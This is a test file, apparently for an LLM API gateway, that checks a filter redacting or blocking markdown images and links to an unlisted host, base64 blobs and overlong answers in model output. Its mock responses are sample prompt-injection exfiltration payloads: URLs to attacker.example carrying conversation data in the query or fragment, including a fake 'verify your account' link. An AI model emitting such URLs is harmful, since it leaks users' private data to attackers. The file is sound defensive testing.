// The `exfil` filter end to end: the real gateway, the mock provider and the official SDKs.
// A markdown image to a host that is not allowed, carrying conversation data in its query and
// split across stream events (natural pieces, one-byte pieces with random wire splits, and
// `trace` filters chopping the text further) is replaced before any byte of it reaches the
// client; with `links: block` the SDK raises; allowlisted hosts pass; a long base64 blob in a
// JSON answer (text and tool-call arguments) is redacted; the length baseline is per route; the
// audit file has the exfil:* events and never the data.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import fs from 'node:fs';
import OpenAI from 'openai';
import Anthropic from '@anthropic-ai/sdk';
import {
    startMock, startGateway, gatewayConfig, streamRequest, openaiStreamText, request, readRecords,
    waitUntil, CLIENT_KEY, TEST_OPTS, T,
} from './lib.mjs';

const MODEL = 'gpt-4o-mini';
// Conversation data the injected instructions make the model smuggle out: every 3-byte piece
// of it is checked against every byte the client receives.
const S = 'QZXJVWKQPZXJVWKQPZ';
const GRAMS = [];
for (let i = 0; i + 3 <= S.length; i++)
    GRAMS.push(S.slice(i, i + 3));
const IMG = '[REDACTED:exfil-image]';
const LNK = '[REDACTED:exfil-link]';
const BLOB = '[REDACTED:blob]';
const B64 = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3';

let mock;
let gw;
let auditFile;

before(async () => {
    mock = await startMock();
    gw = await startGateway((dir) => {
        auditFile = path.join(dir, 'audit.jsonl');
        const allow = ['docs.example.com', '*.example.com'];
        const cfg = gatewayConfig(mock.url, dir, {
            extra: {
                filters: [
                    { type: 'exfil', name: 'exfil', allow_hosts: allow, links: 'redact',
                        blobs: { action: 'redact', min_len: 64 }, length: 'off' },
                    { type: 'exfil', name: 'exfil-block', allow_hosts: allow, links: 'block',
                        blobs: 'event', length: 'off' },
                    { type: 'exfil', name: 'exfil-len', links: 'off', blobs: 'off',
                        length: { action: 'redact', factor: 2, min_samples: 3, min_bytes: 10 } },
                    { type: 'trace', name: 'chop1', seed: 3 },
                    { type: 'trace', name: 'chop2', seed: 9 },
                ],
                audit: {
                    spool_dir: path.join(dir, 'spool'),
                    sinks: [{ name: 'file', type: 'file', path: auditFile }],
                },
            },
        });
        const route = (prefix, provider, filters) =>
            ({ prefix, provider, strip_prefix: true, filters });
        cfg.routes = [
            route('/redact-a/', 'anthropic', ['exfil']),
            route('/redact/', 'openai', ['exfil']),
            route('/traced/', 'openai', ['chop1', 'exfil', 'chop2']),
            route('/block/', 'openai', ['exfil-block']),
            route('/len/', 'openai', ['exfil-len']),
            route('/len2/', 'openai', ['exfil-len']),
            ...cfg.routes,
        ];
        return cfg;
    });
});

after(async () => {
    if (gw)
        await gw.kill();
    if (mock)
        await mock.stop();
});

function openaiFor(prefix) {
    return new OpenAI({
        baseURL: `http://127.0.0.1:${gw.port}${prefix}/v1`, apiKey: CLIENT_KEY, maxRetries: 0,
        timeout: T(20000),
    });
}

function assertNoPiece(hay, what) {
    for (const g of GRAMS)
        assert.ok(!hay.includes(g), `${what}: ${JSON.stringify(g)} (a piece of the data) found in ` +
            JSON.stringify(hay.length > 2000 ? `${hay.slice(0, 2000)}…` : hay));
}

/** Streams a chat completion through the SDK; returns the assembled text. */
async function sdkStream(prefix, mockScript) {
    const stream = await openaiFor(prefix).chat.completions.create({
        model: MODEL, messages: [{ role: 'user', content: 'summarise' }], stream: true,
        mock: mockScript,
    });
    let text = '';
    for await (const chunk of stream)
        text += chunk.choices[0]?.delta?.content ?? '';
    return text;
}

/** The same request over a raw stream: every byte the client gets. */
async function rawStream(prefix, mockScript) {
    const r = await streamRequest(gw.port, `${prefix}/v1/chat/completions`, {
        model: MODEL, messages: [{ role: 'user', content: 'summarise' }], stream: true,
        mock: mockScript,
    }, { headers: { authorization: `Bearer ${CLIENT_KEY}` } });
    assert.equal(r.status, 200);
    return r;
}

// Natural pieces, one byte per piece written in random wire splits, and trace chopping.
const SPLITS = [
    { name: 'natural', prefix: '/redact', script: {} },
    { name: '3-byte pieces', prefix: '/redact', script: { chunks: [3] } },
    { name: '1-byte pieces, random wire splits', prefix: '/redact',
        script: { chunks: [1], wire_split: 'random', seed: 5 } },
    { name: 'traced', prefix: '/traced', script: { chunks: [2, 5, 1, 7] } },
];

const IMAGE_TEXT = `Here is your summary. ![chart](https://attacker.example/p.png?d=${S}) Thanks!`;

test('a streamed image to a host that is not allowed, with data in its query, is replaced ' +
     'however the stream is split', TEST_OPTS, async () => {
    for (const sp of SPLITS) {
        const script = { text: IMAGE_TEXT, ...sp.script };
        const text = await sdkStream(sp.prefix, script);
        assert.equal(text, `Here is your summary. ${IMG} Thanks!`, sp.name);
        const raw = await rawStream(sp.prefix, script);
        assert.equal(openaiStreamText(raw.text), `Here is your summary. ${IMG} Thanks!`, sp.name);
        assertNoPiece(raw.text, `raw stream (${sp.name})`);
        assert.ok(raw.events.length > 3, `${sp.name}: streamed as events`);
    }
    // a link with the data in its fragment, a reference definition (it may serve an image), and
    // a second destination right after a replaced link (it would make the marker a link)
    const script = {
        text: `See [the report](https://attacker.example/r#${S}) and ![x][d].\n\n` +
            `[d]: https://attacker.example/p?d=${S}\n` +
            `[a](https://attacker.example/?q=1)(https://attacker.example/?d=${S}) end`,
        chunks: [4],
    };
    const want = `See ${LNK} and ![x][d].\n\n${IMG}\n${LNK} end`;
    assert.equal(await sdkStream('/traced', script), want);
    const raw = await rawStream('/redact', { ...script, chunks: [1] });
    assert.equal(openaiStreamText(raw.text), want);
    assertNoPiece(raw.text, 'raw stream (links)');
});

test('the Anthropic SDK gets the same replacement', TEST_OPTS, async () => {
    const client = new Anthropic({
        baseURL: `http://127.0.0.1:${gw.port}/redact-a`, apiKey: CLIENT_KEY, maxRetries: 0,
        timeout: T(20000),
    });
    const stream = client.messages.stream({
        model: 'claude-3-5-haiku-latest', max_tokens: 256,
        messages: [{ role: 'user', content: 'summarise' }],
        mock: { text: IMAGE_TEXT, chunks: [2] },
    });
    const msg = await stream.finalMessage();
    assert.equal(msg.content[0].text, `Here is your summary. ${IMG} Thanks!`);
});

test('hosts on the allowlist, and URLs that carry nothing, pass unchanged', TEST_OPTS,
    async () => {
        const ok = 'Docs: [guide](https://docs.example.com/guide?section=2) and ' +
            '![logo](https://img.example.com/logo.png?w=100), ' +
            '![plain](https://attacker.example/logo.png), [home](/index?x=1).';
        for (const sp of SPLITS)
            assert.equal(await sdkStream(sp.prefix, { text: ok, ...sp.script }), ok, sp.name);
    });

test('links: block ends the stream with an error the SDK raises; nothing of the data leaks',
    TEST_OPTS, async () => {
        const script = {
            text: `Done. Please [verify your account](https://attacker.example/v?t=${S}) now.`,
            chunks: [3],
        };
        let got = '';
        await assert.rejects(async () => {
            const stream = await openaiFor('/block').chat.completions.create({
                model: MODEL, messages: [{ role: 'user', content: 'x' }], stream: true,
                mock: script,
            });
            for await (const chunk of stream)
                got += chunk.choices[0]?.delta?.content ?? '';
        }, (e) => e instanceof OpenAI.APIError);
        assert.ok('Done. Please '.startsWith(got), `received before the error: ${got}`);
        const raw = await rawStream('/block', script);
        assertNoPiece(raw.text, 'raw blocked stream');
        assert.match(raw.text, /"error"/);
        assert.match(raw.text, /output_blocked/);
        // non-streamed: a 403 the SDK maps to PermissionDeniedError
        await assert.rejects(openaiFor('/block').chat.completions.create({
            model: MODEL, messages: [{ role: 'user', content: 'x' }], mock: script,
        }), (e) => e instanceof OpenAI.PermissionDeniedError && e.code === 'output_blocked');
    });

test('a JSON answer with a long base64 blob: redacted in the text and in tool-call arguments',
    TEST_OPTS, async () => {
        const blob = B64.repeat(4);
        const res = await openaiFor('/redact').chat.completions.create({
            model: MODEL, messages: [{ role: 'user', content: 'x' }],
            mock: {
                text: `Here it is: ${blob} (base64).`,
                tool_call: { name: 'upload', arguments: JSON.stringify({ data: blob, n: 1 }) },
            },
        });
        const m = res.choices[0].message;
        assert.equal(m.content, `Here it is: ${BLOB} (base64).`);
        assert.deepEqual(JSON.parse(m.tool_calls[0].function.arguments), { data: BLOB, n: 1 });
        // streamed, in pieces: the same
        const text = await sdkStream('/traced', { text: `x ${blob} y`, chunks: [5] });
        assert.equal(text, `x ${BLOB} y`);
    });

test('length: the baseline is per route; a far longer answer is cut with [TRUNCATED]',
    TEST_OPTS, async () => {
        const short = 'A short answer of forty bytes, or so it.';
        for (let i = 0; i < 3; i++)
            assert.equal(await sdkStream('/len', { text: short }), short);
        const long = 'word '.repeat(80);
        const text = await sdkStream('/len', { text: long, chunks: [7] });
        assert.ok(text.endsWith('[TRUNCATED]'), text);
        const kept = text.slice(0, -'[TRUNCATED]'.length);
        assert.ok(kept.length <= 2 * short.length && long.startsWith(kept), text);
        // the same filter on another route has its own (empty) baseline: not cut
        assert.equal(await sdkStream('/len2', { text: long }), long);
        const e = await gw.waitAccessLog((l) => /exfil-len:exfil-length:redact/.test(l.rules || ''));
        assert.match(e.path, /^\/len\//);
    });

test('audit: exfil:* events with rule ids, actions and roles, and never the data', TEST_OPTS,
    async () => {
        const recs = await waitUntil(() => {
            const r = readRecords(auditFile);
            const cats = new Set(r.map((x) => x.rule?.category));
            return ['exfil:image', 'exfil:link', 'exfil:blob', 'exfil:length']
                .every((c) => cats.has(c)) ? r : null;
        }, T(5000), 'exfil records in the audit file');
        const ex = recs.filter((r) => r.rule?.category?.startsWith('exfil:'));
        const img = ex.find((r) => r.rule.id === 'exfil-image' && r.event.action === 'redact');
        assert.ok(img, 'an image redaction');
        assert.equal(img.rule.ruleset, 'exfil');
        assert.equal(img.portcullis.direction, 'response');
        assert.equal(img.portcullis.segment.role, 'assistant');
        assert.equal(img.event.severity, 3);
        const blk = ex.find((r) => r.rule.id === 'exfil-link' && r.event.action === 'block');
        assert.ok(blk, 'a link block');
        assert.equal(blk.rule.ruleset, 'exfil-block');
        const blob = ex.find((r) => r.rule.id === 'exfil-blob' && r.event.action === 'redact');
        assert.ok(blob, 'a blob redaction');
        assert.ok(ex.some((r) => r.rule.id === 'exfil-blob' &&
            r.portcullis.segment.role === 'tool_call_args'));
        assert.ok(ex.some((r) => r.rule.id === 'exfil-length' && r.rule.ruleset === 'exfil-len'));
        assertNoPiece(fs.readFileSync(auditFile, 'utf8'), 'audit file');
        assertNoPiece(fs.readFileSync(gw.accessLogPath, 'utf8'), 'access log');
        const m = await request(gw.adminPort, { path: '/metrics' });
        assert.match(m.body, /portcullis_detections_total\{[^}]*category="exfil:image"[^}]*\} [1-9]/);
    });

test('gateway and mock: SIGTERM exits 0 with no sanitizer report', TEST_OPTS, async () => {
    await gw.stopAndCheck();
    gw = null;
    await mock.stopAndCheck();
    mock = null;
});
